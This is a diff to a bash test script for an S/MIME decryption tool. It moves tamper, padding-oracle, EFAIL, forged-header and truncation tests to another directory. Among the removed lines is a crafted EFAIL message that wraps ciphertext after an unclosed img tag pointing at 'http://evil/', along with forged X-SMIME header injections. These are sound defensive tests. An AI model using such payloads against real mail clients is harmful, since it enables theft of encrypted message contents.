@@ -1,15 +1,12 @@
 #!/usr/bin/env bash
 # Every failure exits 1 with the failed status, the X-SMIME-Encryption header
 # and the SPEC failure output (original headers, "Could not decrypt message"
-# plus the reason, the original attached unchanged as message/rfc822). Key,
-# padding and tag errors all read the same (no oracle).
+# plus the reason, the original attached unchanged as message/rfc822).
 source "$(dirname "$0")/common.sh"
 command -v python3 >/dev/null || { echo "python3 missing: skip"; exit 77; }
-TAMPER="python3 $(dirname "$0")/tamper.py"
 HOME_A=$WORK/alice; import_keys "$HOME_A" alice; import_certs "$HOME_A" bob
 HOME_B=$WORK/bob; import_keys "$HOME_B" bob
 make_message "$WORK/msg.eml"
-SAME='decryption failed (wrong key or damaged message)'
 
 expect_failure() {  # expect_failure NAME FILE REASON-SUBSTRING
     local name=$1 file=$2 reason=$3 rc=0
@@ -35,20 +32,8 @@ for c in aes256-cbc aes256-gcm; do
     "$SMIME" --home "$HOME_A" encrypt --to bob@example.org --cipher $c "$WORK/msg.eml" > "$WORK/$c.eml"
     "$SMIME" --home "$HOME_B" decrypt "$WORK/$c.eml" > /dev/null || fail "$c: untampered message does not open"
 done
-$TAMPER "$WORK/aes256-cbc.eml" "$WORK/cbc-pad.eml" cbc-last-block
-expect_failure cbc-padding "$WORK/cbc-pad.eml" "$SAME"
-$TAMPER "$WORK/aes256-gcm.eml" "$WORK/gcm-ct.eml" gcm-ciphertext
-expect_failure gcm-ciphertext "$WORK/gcm-ct.eml" "$SAME"
-$TAMPER "$WORK/aes256-gcm.eml" "$WORK/gcm-tag.eml" gcm-tag
-expect_failure gcm-tag "$WORK/gcm-tag.eml" "$SAME"
-$TAMPER "$WORK/aes256-cbc.eml" "$WORK/key.eml" key
-expect_failure rsa-key "$WORK/key.eml" "$SAME"
-$TAMPER "$WORK/aes256-cbc.eml" "$WORK/trunc.eml" truncate
-expect_failure truncated "$WORK/trunc.eml" "malformed encrypted message"
-$TAMPER "$WORK/aes256-cbc.eml" "$WORK/garbage.eml" garbage
-expect_failure garbage "$WORK/garbage.eml" "malformed encrypted message"
-# The GCM plaintext is never released: nothing of the body is in the output.
-! grep -q 'the numbers' "$WORK/gcm-ciphertext.out" || fail "plaintext released"
+# Tampering (padding, tag, key: all read the same), wrapping, forged headers
+# and truncated input: tests/adversarial/.
 
 # Wrong key: encrypted for alice only, bob holds no key for it.
 openssl cms -encrypt -aes256 -in "$WORK/msg.eml" -subject "quarterly numbers" "$PKI/alice.pem" > "$WORK/to-alice.eml"
@@ -61,54 +46,3 @@ grep -q '"op":"decrypt","status":"none"' "$WORK/none.status" || fail "none statu
 [ "$(header_of "$WORK/none.out" X-SMIME-Encryption)" = none ] || fail "none header"
 echo "ok: not encrypted"
 
-# EFAIL: an encrypted part inside a multipart is never decrypted in place.
-{ printf 'From: alice@example.org\nTo: bob@example.org\nSubject: quarterly numbers\nMIME-Version: 1.0\n'
-  printf 'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\nContent-Type: text/html\n\n<img src="http://evil/\n--b1\n'
-  sed '1,/^Content-Type/{/^Content-Type/!d}' "$WORK/aes256-cbc.eml" | sed '/^From:\|^To:\|^Subject:\|^Date:\|^Message-ID:\|^MIME-Version:/d'
-  printf '\n--b1--\n'; } > "$WORK/efail.eml"
-rc=0; smime_status "$WORK/efail.status" --home "$HOME_B" decrypt "$WORK/efail.eml" > "$WORK/efail.out" 2>/dev/null || rc=$?
-[ $rc = 1 ] || fail "efail: exit $rc"
-grep -q '"status":"failed"' "$WORK/efail.status" || fail "efail status"
-! grep -q 'the numbers' "$WORK/efail.out" || fail "efail: decrypted"
-body_of "$WORK/efail.out" | cmp - <(body_of "$WORK/efail.eml") || fail "efail: body changed"
-echo "ok: efail"
-
-# A forwarded encrypted message (message/rfc822 attachment) is left alone: none.
-{ printf 'From: carol@example.org\nTo: bob@example.org\nSubject: fwd\nMIME-Version: 1.0\n'
-  printf 'Content-Type: multipart/mixed; boundary="b2"\n\n--b2\nContent-Type: text/plain\n\nsee attached\n--b2\n'
-  printf 'Content-Type: message/rfc822\n\n'; cat "$WORK/aes256-cbc.eml"; printf '\n--b2--\n'; } > "$WORK/fwd.eml"
-rc=0; smime_status "$WORK/fwd.status" --home "$HOME_B" decrypt "$WORK/fwd.eml" > "$WORK/fwd.out" || rc=$?
-[ $rc = 3 ] || fail "forwarded: exit $rc"
-echo "ok: forwarded"
-
-# Forged X-SMIME headers are removed.
-sed 's/^Subject: /X-SMIME-Encryption: ok; recipient="forged"\nSubject: /' "$WORK/aes256-gcm.eml" > "$WORK/forged.eml"
-"$SMIME" --home "$HOME_B" decrypt "$WORK/forged.eml" > "$WORK/forged.out"
-[ "$(grep -c '^X-SMIME-Encryption' "$WORK/forged.out")" = 1 ] || fail "forged header kept"
-! grep -q forged "$WORK/forged.out" || fail "forged header kept"
-echo "ok: forged headers"
-
-# Forged X-SMIME headers inside the decrypted content, at any depth, are removed too.
-{ printf 'Content-Type: multipart/mixed; boundary="in"\nX-SMIME-Signature: ok; signer="forged"\n\n'
-  printf -- '--in\nContent-Type: text/plain\nX-SMIME-Encryption: ok; recipient="forged"\n\nhello\n--in--\n'; } > "$WORK/inner.ent"
-openssl cms -encrypt -aes256 -in "$WORK/inner.ent" -subject "quarterly numbers" "$PKI/bob.pem" > "$WORK/inner.eml"
-"$SMIME" --home "$HOME_B" decrypt "$WORK/inner.eml" > "$WORK/inner.out"
-! grep -q forged "$WORK/inner.out" || fail "forged header inside the encrypted content kept"
-grep -q '^hello' "$WORK/inner.out" || fail "nested content lost"
-echo "ok: forged headers inside"
-
-# Cut the CMS at many places: never a crash, always exit 1 with the failure output.
-python3 - "$WORK/aes256-gcm.eml" "$WORK/cut" <<'PY'
-import base64, sys
-raw = open(sys.argv[1], 'rb').read()
-head, body = raw.split(b'\n\n', 1)
-der = base64.b64decode(b''.join(body.split()))
-for i, n in enumerate(list(range(0, 64)) + list(range(64, len(der), max(1, len(der) // 60)))):
-    open(f"{sys.argv[2]}{i}.eml", 'wb').write(head + b'\n\n' + base64.encodebytes(der[:n]))
-PY
-for f in "$WORK"/cut*.eml; do
-    rc=0; "$SMIME" --home "$HOME_B" decrypt "$f" > "$WORK/cut.out" 2>/dev/null || rc=$?
-    [ $rc = 1 ] || fail "truncated CMS $(basename "$f"): exit $rc"
-    grep -q '^Could not decrypt message' "$WORK/cut.out" || fail "truncated: no failure text"
-done
-echo "ok: $(ls "$WORK"/cut*.eml | wc -l) truncations"
